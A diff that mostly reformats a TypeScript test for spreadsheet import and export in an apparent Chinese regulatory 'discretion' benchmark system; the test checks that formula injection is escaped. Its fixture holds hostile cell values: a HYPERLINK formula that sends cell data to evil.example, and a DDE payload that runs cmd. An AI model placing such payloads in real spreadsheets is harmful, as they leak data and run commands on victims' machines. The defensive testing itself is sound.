@@ -20,9 +20,9 @@ afterAll(async () => t.close());
 
 const hostile = {
   name: '=HYPERLINK("http://evil.example/?d="&A1,"点击查看")',
-  source: '@SUM(1+1)*cmd|\' /C calc\'!A0',
+  source: "@SUM(1+1)*cmd|' /C calc'!A0",
   note: '+86 0851-12345678',
-  verifyNote: "-2+3",
+  verifyNote: '-2+3',
   // Typed in Excel as '=… : the apostrophe only says “text”, as Excel itself reads it.
   quoted: "'=已带撇号的文字",
 };
@@ -36,7 +36,13 @@ async function load(base64: string): Promise<ExcelJS.Workbook> {
 /** Every cell of every sheet: [sheet, address, value]. */
 function cells(wb: ExcelJS.Workbook): Array<[string, string, unknown]> {
   const out: Array<[string, string, unknown]> = [];
-  wb.eachSheet((ws) => ws.eachRow((row) => row.eachCell((c) => { out.push([ws.name, c.address, c.value]); })));
+  wb.eachSheet((ws) =>
+    ws.eachRow((row) =>
+      row.eachCell((c) => {
+        out.push([ws.name, c.address, c.value]);
+      }),
+    ),
+  );
   return out;
 }
 
@@ -68,11 +74,21 @@ describe('discretion.export', () => {
     set('违法行为', 2, '核实说明', hostile.verifyNote);
     set('违法行为', 3, '名称', hostile.quoted);
     const meta = shipped.getWorksheet('基准信息')!;
-    meta.eachRow((r) => { if (r.getCell(1).value === '说明') r.getCell(2).value = hostile.note; });
+    meta.eachRow((r) => {
+      if (r.getCell(1).value === '说明') r.getCell(2).value = hostile.note;
+    });
     const upload = Buffer.from(await shipped.xlsx.writeBuffer()).toString('base64');
-    expect(await t.call(reviewer, 'discretion.import', { files: [{ name: '省级表.xlsx', contentBase64: upload }] })).toMatchObject({ version: 'INJ-1', changed: true });
+    expect(
+      await t.call(reviewer, 'discretion.import', { files: [{ name: '省级表.xlsx', contentBase64: upload }] }),
+    ).toMatchObject({ version: 'INJ-1', changed: true });
     const b = await t.call(officer, 'discretion.list', {});
-    expect([b.violations[0]!.name, b.violations[0]!.verifyNote, b.violations[1]!.name, b.source, b.note]).toEqual([hostile.name, hostile.verifyNote, '=已带撇号的文字', hostile.source, hostile.note]);
+    expect([b.violations[0]!.name, b.violations[0]!.verifyNote, b.violations[1]!.name, b.source, b.note]).toEqual([
+      hostile.name,
+      hostile.verifyNote,
+      '=已带撇号的文字',
+      hostile.source,
+      hostile.note,
+    ]);
 
     const exported = await t.call(officer, 'discretion.export', {});
     const wb = await load(exported.contentBase64);
@@ -83,7 +99,9 @@ describe('discretion.export', () => {
     expect(all.filter(([, , v]) => v === `'${hostile.name}`)).toHaveLength(1);
 
     // The round trip: the export is the same benchmark, so importing it changes nothing.
-    const again = await t.call(reviewer, 'discretion.import', { files: [{ name: exported.fileName, contentBase64: exported.contentBase64 }] });
+    const again = await t.call(reviewer, 'discretion.import', {
+      files: [{ name: exported.fileName, contentBase64: exported.contentBase64 }],
+    });
     expect(again).toMatchObject({ version: 'INJ-1', changed: false });
     const back = await t.call(officer, 'discretion.list', {});
     expect(back).toEqual(b);
